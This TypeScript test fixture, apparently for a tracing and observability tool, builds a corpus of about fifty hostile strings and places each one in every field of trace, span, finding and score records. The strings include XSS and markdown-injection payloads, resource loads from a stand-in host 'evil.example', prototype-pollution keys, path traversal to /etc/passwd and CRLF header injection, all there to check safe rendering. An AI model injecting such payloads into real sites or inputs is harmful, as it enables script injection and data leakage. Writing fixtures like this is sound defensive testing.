import type {
  FindingRecord,
  Json,
  JsonObject,
  ScoreRecord,
  SpanRecord,
  TraceInfo,
  TraceRecord,
} from "../../../src/core/record.ts";
import { traceOf } from "./traces.ts";

const PWN = "window.__pwned=1";
const EVIL = "https://evil.example";

/** Texts that do something wherever one of them is taken for more than text. */
export const CORPUS: readonly string[] = [
  `<script>${PWN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `</script><script>${PWN}</script>`,
  `</title></textarea></style></noscript><script>${PWN}</script>`,
  `<img src=x onerror="${PWN}">`,
  `<img src=${EVIL}/pixel.png>`,
  `<img srcset="${EVIL}/a 1x" src=x onerror=${PWN}//`,
  `"><svg onload="${PWN}">`,
  `' autofocus onfocus='${PWN}' x='`,
  `<svg><script href="data:text/javascript,${PWN}"></script></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="${EVIL}/x.svg#a"></use></svg>`,
  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${PWN}"></iframe>`,
  `<object data="javascript:${PWN}"></object><embed src="javascript:${PWN}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${PWN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  `<details open ontoggle="${PWN}"><summary>x</summary></details>`,
  `<body onload="${PWN}"><video autoplay onplay="${PWN}"><source src=x onerror="${PWN}"></video>`,
  `<a href="javascript:${PWN}">x</a>`,
  `<a href="jav&#x09;ascript:${PWN}" target=_self>x</a>`,
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}//https://ok.example`,
  `data:text/html,<script>opener.${PWN}</script>`,
  `vbscript:msgbox(1)`,
  `[click](javascript:${PWN})`,
  `[click](<java\nscript:${PWN}>) [x]: javascript:${PWN}\n\n[x]`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![pixel](${EVIL}/pixel.png "a\\" onerror=${PWN}")`,
  `![a][a]\n\n[a]: ${EVIL}/ref.png`,
  `<${EVIL}/auto> <javascript:${PWN}> www.evil.example`,
  `# h\n\n<div style="background:url(${EVIL}/css)">x</div>\n\n- [ ] <input onfocus=${PWN} autofocus>`,
  `\`\`\`html\n</code></pre><img src=x onerror=${PWN}>\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${PWN}> |`,
  `<style>@import url(${EVIL}/a.css); *{background:url(${EVIL}/b)}</style>`,
  `x; background: url(${EVIL}/style) ; } body { display: none }`,
  `<link rel=stylesheet href=${EVIL}/a.css><base href=${EVIL}/><meta http-equiv=refresh content="0;url=${EVIL}">`,
  `{{constructor.constructor('${PWN}')()}} \${${PWN}} <%= ${PWN} %> #{${PWN}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `\u202egnp.exe \u2066\u200b\ufeff \u0000\u0007\u001b[31m \ud800`,
  `＜script＞${PWN}＜/script＞ \u2028${PWN}\u2029`,
  `&lt;img src=x onerror=${PWN}&gt; &#60;script&#62;${PWN}&#60;/script&#62;`,
  `../../../../etc/passwd%00.png`,
  `C:\\evil"; filename=x.html\r\nset-cookie: a=b`,
  `#/trace/../../../incidents?token=${PWN}`,
  `${"<b>".repeat(2_000)}<img src=x onerror=${PWN}>`,
  `${"[".repeat(600)}a${"](javascript:window.__pwned=1)".repeat(600)}`,
];

export const hostileId = (index: number): string => (index + 1).toString(16).padStart(32, "bad0");

/** A trace for each text, with it wherever a trace can hold one; sessions, models and users among them. */
export function hostileRecords(nowMs: number): TraceRecord[] {
  return CORPUS.flatMap((text, index) => hostileTrace(text, hostileId(index), nowMs - (index + 1) * 60_000));
}

function own(entries: readonly (readonly [string, Json])[]): JsonObject {
  // `Object.fromEntries` makes an own `__proto__`, where an object literal would set the prototype.
  return Object.fromEntries(entries);
}

function hostileTrace(text: string, traceId: string, startMs: number): TraceRecord[] {
  const bag = own([
    [text, text],
    ["list", [text, own([[text, text]])]],
    ["__proto__", own([["polluted", text]])],
  ]);
  const info: TraceInfo = {
    name: text,
    userId: text,
    sessionId: text,
    feature: text,
    team: text,
    environment: text,
    release: text,
    version: text,
    tags: [text, "x"],
    metadata: bag,
  };
  const call: Partial<SpanRecord> = {
    input: [
      { role: "system", content: text },
      { role: text, content: text, name: text },
      {
        role: "user",
        parts: [
          { type: "text", content: text },
          { type: "uri", modality: "image", uri: `${EVIL}/image.png` },
        ],
      },
      {
        role: "user",
        content: [
          { type: "image_url", image_url: { url: text } },
          { type: text, [text]: text },
        ],
      },
      { role: "tool", parts: [{ type: "tool_call_response", id: text, response: text }] },
    ],
    output: [
      {
        role: "assistant",
        parts: [
          { type: "text", content: text },
          { type: "reasoning", content: text },
          { type: "tool_call", id: text, name: text, arguments: own([[text, text]]) },
          { type: "tool_call", id: text, name: text, arguments: text },
          { type: "blob", modality: "image", mime_type: "image/svg+xml", content: btoa(`<svg onload="${PWN}"/>`) },
        ],
        finish_reason: text,
      },
    ],
    error: { type: text, message: text, stack: text, code: text, status: 500, causes: [{ type: text, message: text }] },
    usage: { inputTokens: 10, outputTokens: 5, extra: { [text]: 1 } },
    cost: { currency: "USD", total: 0.01, source: "computed", model: text, book: text },
    genAi: {
      operation: text,
      provider: text,
      requestModel: text,
      responseModel: text,
      responseId: text,
      finishReasons: [text],
      conversationId: text,
      parameters: bag,
      systemInstructions: [{ type: "text", content: text }],
      toolDefinitions: [{ name: text, description: text, parameters: bag }],
      agent: { id: text, name: text, description: text },
      tool: { name: text, type: text, callId: text },
      prompt: { name: text, version: text },
      openai: { threadId: text, runId: text, runStatus: text, runStepId: text, assistantId: text, errorMessage: text },
    },
    http: {
      method: text,
      route: text,
      host: text,
      status: 500,
      requestId: text,
      attempts: [{ error: text, durationMs: 1 }],
    },
    events: [{ name: text, time: `${BigInt(startMs) * 1_000_000n}`, attributes: bag }],
    links: [{ traceId: text, spanId: text, attributes: bag }],
    metadata: bag,
    attributes: bag,
    callSite: text,
    cuts: [{ path: text, reason: "string", size: 9 }],
  };
  const spans = traceOf(traceId, startMs, info, {
    name: text,
    type: "agent",
    from: 0,
    to: 900,
    part: { input: text, output: own([[text, text]]), genAi: call.genAi! },
    children: [
      { name: text, type: "generation", from: 10, to: 400, part: call },
      {
        name: text,
        type: "tool",
        from: 410,
        to: 500,
        part: { input: own([[text, text]]), output: text, attributes: bag },
      },
    ],
  });
  const time = `${BigInt(startMs + 900) * 1_000_000n}`;
  const finding: FindingRecord = {
    ...{
      record: "finding",
      schema: 1,
      id: `${traceId}-f`,
      seq: 1,
      traceId,
      spanId: spans[1]!.spanId,
      time,
      trace: info,
    },
    ...{ name: text, severity: "error", message: text, nextStep: text, evidence: bag },
  };
  const score: ScoreRecord = {
    ...{ record: "score", schema: 1, id: `${traceId}-s`, seq: 1, traceId, spanId: spans[1]!.spanId, time, trace: info },
    ...{ name: text, value: 0.5, dataType: "NUMERIC", comment: text, metadata: bag },
  };
  const word: ScoreRecord = { ...score, id: `${traceId}-w`, value: text, dataType: "CATEGORICAL" };
  return [...spans, finding, score, word];
}
